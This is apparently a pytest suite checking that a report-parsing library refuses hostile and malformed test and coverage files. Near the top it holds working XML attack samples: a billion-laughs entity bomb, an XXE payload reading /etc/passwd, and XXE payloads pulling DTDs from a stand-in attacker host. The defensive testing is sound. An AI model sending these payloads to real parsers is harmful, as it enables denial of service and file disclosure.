"""Hostile and broken report files are refused with an error naming the file and the problem."""

from __future__ import annotations

from pathlib import Path

import pytest

from stageline.reports import (
    Limits,
    MalformedReport,
    ReportError,
    ReportFileFormat,
    ReportTooLarge,
    TestReport,
    UnsafeReport,
    UnsupportedFileFormat,
    WrongFormat,
    detect_format,
    parse,
    parse_coverage_report,
)

SAMPLES = Path(__file__).parent / "samples"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<testsuites><testsuite name="&lol9;"><testcase name="x"/></testsuite></testsuites>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE testsuites [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuites><testsuite name="s"><testcase name="&xxe;"/></testsuite></testsuites>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<report name="x"/>"""

# No internal subset, but an entity only an (unfetched) external DTD could define.
XXE_EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE testsuites SYSTEM "http://attacker.invalid/evil.dtd">
<testsuites><testsuite name="s"><testcase name="t"><failure>&secret;</failure></testcase></testsuite></testsuites>"""


@pytest.mark.parametrize(
    ("data", "fmt", "says"),
    [
        (BILLION_LAUGHS, "JUNITXML", "<!DOCTYPE lolz [...]>"),
        (XXE_FILE, "JUNITXML", "internal subset"),
        (XXE_PARAMETER, "JACOCOXML", "internal subset"),
        (XXE_EXTERNAL_DTD, "JUNITXML", "undeclared entity 'secret'"),
    ],
    ids=["billion-laughs", "xxe-file", "xxe-parameter-entity", "xxe-external-dtd"],
)
def test_entities_are_refused(data: bytes, fmt: str, says: str) -> None:
    with pytest.raises(UnsafeReport) as caught:
        parse(data, fmt, name="reports/evil.xml")
    message = str(caught.value)
    assert message.startswith("reports/evil.xml: ")
    assert says in message
    assert "refused as unsafe" in message


def test_detecting_a_hostile_file_does_not_expand_it() -> None:
    assert detect_format(BILLION_LAUGHS) is None


def test_a_public_external_dtd_is_allowed_because_jacoco_writes_one() -> None:
    # The sample starts with JaCoCo's <!DOCTYPE report PUBLIC ... "report.dtd">, never fetched.
    assert (SAMPLES / "jacoco.xml").read_bytes().find(b"<!DOCTYPE report PUBLIC") > 0
    assert parse_coverage_report(SAMPLES / "jacoco.xml", "JACOCOXML").files


def _half(sample: str) -> bytes:
    data = (SAMPLES / sample).read_bytes()
    return data[: len(data) // 2]


def _first_lines(sample: str, count: int) -> bytes:
    return b"".join((SAMPLES / sample).read_bytes().splitlines(keepends=True)[:count])


@pytest.mark.parametrize(
    ("data", "fmt", "error", "says"),
    [
        (_half("junit.xml"), "JUNITXML", MalformedReport, "is not well-formed XML ("),
        (_half("results.trx"), "VISUALSTUDIOTRX", MalformedReport, "is not well-formed XML ("),
        (_half("cobertura.xml"), "COBERTURAXML", MalformedReport, "is not well-formed XML ("),
        (_half("cucumber.json"), "CUCUMBERJSON", MalformedReport, "is not valid JSON ("),
        (_half("resultset.json"), "SIMPLECOV", MalformedReport, "is not valid JSON ("),
        (
            _first_lines("lcov.info", 22),
            "LCOVINFO",
            MalformedReport,
            "no end_of_record): the file looks truncated",
        ),
        (b"", "JUNITXML", MalformedReport, "no element found at line 1, column 0"),
        (b"", "LCOVINFO", WrongFormat, "it has no SF: records"),
    ],
    ids=["junit", "trx", "cobertura", "cucumber", "simplecov", "lcov", "empty-xml", "empty-lcov"],
)
def test_truncated_files_are_refused(
    data: bytes, fmt: str, error: type[ReportError], says: str
) -> None:
    with pytest.raises(error) as caught:
        parse(data, fmt, name="out/report")
    assert str(caught.value).startswith("out/report: ")
    assert says in str(caught.value)


@pytest.mark.parametrize(
    ("sample", "declared", "says"),
    [
        ("cobertura.xml", "JUNITXML", "it looks like COBERTURAXML, not JUNITXML"),
        ("clover.xml", "COBERTURAXML", "(it looks like Clover XML: use CLOVERXML)"),
        ("cobertura.xml", "CLOVERXML", "(it looks like Cobertura XML: use COBERTURAXML)"),
        ("nunit3.xml", "NUNITXML", "(NUnit 3 output: use NUNIT3XML)"),
        ("nunit2.xml", "NUNIT3XML", "it looks like NUNITXML, not NUNIT3XML"),
        (
            "junit.xml",
            "CUCUMBERJSON",
            "is not valid JSON (Expecting value at line 1, column 1); it looks like JUNITXML",
        ),
        ("cucumber.json", "SIMPLECOV", "it looks like CUCUMBERJSON, not SIMPLECOV"),
        ("resultset.json", "CUCUMBERJSON", "the top level is not a list of features"),
        ("lcov.info", "JACOCOXML", "it looks like LCOVINFO, not JACOCOXML"),
        ("results.trx", "TESTNGXML", "the root element is <TestRun>, not <testng-results>"),
    ],
)
def test_a_wrong_file_format_says_what_the_file_looks_like(
    sample: str, declared: str, says: str
) -> None:
    with pytest.raises(WrongFormat) as caught:
        parse(SAMPLES / sample, declared)
    assert str(caught.value).startswith(f"{SAMPLES / sample}: ")
    assert says in str(caught.value)


def test_size_cap_is_checked_before_reading(tmp_path: Path) -> None:
    big = tmp_path / "big.xml"
    big.write_bytes(b"<testsuites>" + b" " * 200 + b"</testsuites>")
    with pytest.raises(
        ReportTooLarge, match=r"big\.xml: is 225 bytes, over the report size limit of 100 bytes"
    ):
        parse(big, "JUNITXML", limits=Limits(max_bytes=100))
    with pytest.raises(ReportTooLarge, match="over the report size limit"):
        parse(big.read_bytes(), "JUNITXML", limits=Limits(max_bytes=100))


def test_the_default_size_cap_is_50_mb() -> None:
    assert Limits().max_bytes == 50 * 1024 * 1024


def test_cases_past_the_cap_are_counted_but_not_kept() -> None:
    report = parse(SAMPLES / "junit.xml", "JUNITXML", limits=Limits(max_cases=2))
    assert isinstance(report, TestReport)
    assert [c.name for c in report.cases] == ["test_add", "test_total"]
    assert (report.total, report.passed, report.failed, report.errors, report.skipped) == (
        6,
        3,
        1,
        1,
        1,
    )
    assert report.duration_ns == 3_750_000_000
    assert report.truncated is True


@pytest.mark.parametrize(
    ("data", "fmt", "limits", "says"),
    [
        (
            b"<testsuites>" + b"<testsuite>" * 300 + b"</testsuite>" * 300 + b"</testsuites>",
            "JUNITXML",
            Limits(),
            "deeper than 256 levels",
        ),
        (
            b"<testsuites>" + b"<testsuite/>" * 20 + b"</testsuites>",
            "JUNITXML",
            Limits(max_elements=10),
            "more than 10 XML elements",
        ),
        (
            (SAMPLES / "cobertura.xml").read_bytes(),
            "COBERTURAXML",
            Limits(max_files=1),
            "2 covered files is more than the limit of 1",
        ),
    ],
    ids=["depth", "elements", "coverage-files"],
)
def test_structure_caps(data: bytes, fmt: str, limits: Limits, says: str) -> None:
    with pytest.raises(ReportTooLarge, match=says):
        parse(data, fmt, name="r", limits=limits)


@pytest.mark.parametrize(
    ("data", "fmt", "says"),
    [
        (
            b'<coverage line-rate="1"><packages><package><classes><class filename="a.py"><lines><line number="1" hits="many"/></lines></class></classes></package></packages></coverage>',
            "COBERTURAXML",
            "<line> has hits='many', which is not a whole number",
        ),
        (
            b'<report><package name="p"><sourcefile name="A.java"><counter type="LINE" missed="-1" covered="2"/></sourcefile></package></report>',
            "JACOCOXML",
            "<counter> has a negative missed (-1)",
        ),
        (
            b"SF:a.js\nDA:one,1\nend_of_record\n",
            "LCOVINFO",
            "line 2: DA has 'one' where a number belongs",
        ),
        (b"DA:1,1\n", "LCOVINFO", "line 1: DA outside a record (no SF before it)"),
        (b"SF:a.js\nDA:1\nend_of_record\n", "LCOVINFO", "line 2: DA needs 2 values, got '1'"),
        (
            b'[{"name": "f", "elements": [42]}]',
            "CUCUMBERJSON",
            "an element of feature 'f' is a JSON int, not an object",
        ),
        (
            b'[{"name": "f", "elements": {"a": 1}}]',
            "CUCUMBERJSON",
            "'elements' of feature 'f' is not a list",
        ),
        (
            b'{"RSpec": {"coverage": {"/a.rb": {"lines": [1, true]}}}}',
            "SIMPLECOV",
            "line 2 of '/a.rb' has hits True",
        ),
        (
            b'{"RSpec": {"coverage": {"/a.rb": {"branches": {}}}}}',
            "SIMPLECOV",
            "the coverage of '/a.rb' has no 'lines' array",
        ),
        (b"[" * 100_000 + b"]" * 100_000, "CUCUMBERJSON", "nests JSON too deeply"),
        (b'[{"name": "caf\xe9"}]', "CUCUMBERJSON", "is not UTF-8 text (invalid byte at offset 14)"),
    ],
    ids=[
        "cobertura-hits",
        "jacoco-negative",
        "lcov-number",
        "lcov-outside",
        "lcov-short",
        "cucumber-element",
        "cucumber-elements",
        "simplecov-hits",
        "simplecov-lines",
        "deep-json",
        "not-utf8",
    ],
)
def test_malformed_values_are_named(data: bytes, fmt: str, says: str) -> None:
    with pytest.raises(MalformedReport) as caught:
        parse(data, fmt, name="r.out")
    assert str(caught.value).startswith("r.out: ")
    assert says in str(caught.value)


JUNK = [
    b"",
    b"\x00\xff\xfe",
    b"<a>",
    b"<a/>",
    b"{}",
    b"[1, 2]",
    b"null",
    b"SF:x\n",
    b"<coverage/>",
    b"\xef\xbb\xbf[",
]


@pytest.mark.parametrize("fmt", list(ReportFileFormat))
def test_junk_never_crashes_a_parser(fmt: ReportFileFormat) -> None:
    for data in JUNK:
        try:
            parse(data, fmt, name="junk")
        except ReportError as exc:
            assert str(exc).startswith("junk: ")


def test_unknown_file_format_names_are_refused() -> None:
    with pytest.raises(
        UnsupportedFileFormat,
        match="unknown report file-format 'XUNITXML'; expected one of JUNITXML",
    ):
        parse(b"<testsuites/>", "XUNITXML")


def test_a_missing_file_is_a_report_error(tmp_path: Path) -> None:
    with pytest.raises(
        ReportError, match=r"nowhere\.xml: cannot be read: No such file or directory"
    ):
        parse(tmp_path / "nowhere.xml", "JUNITXML")
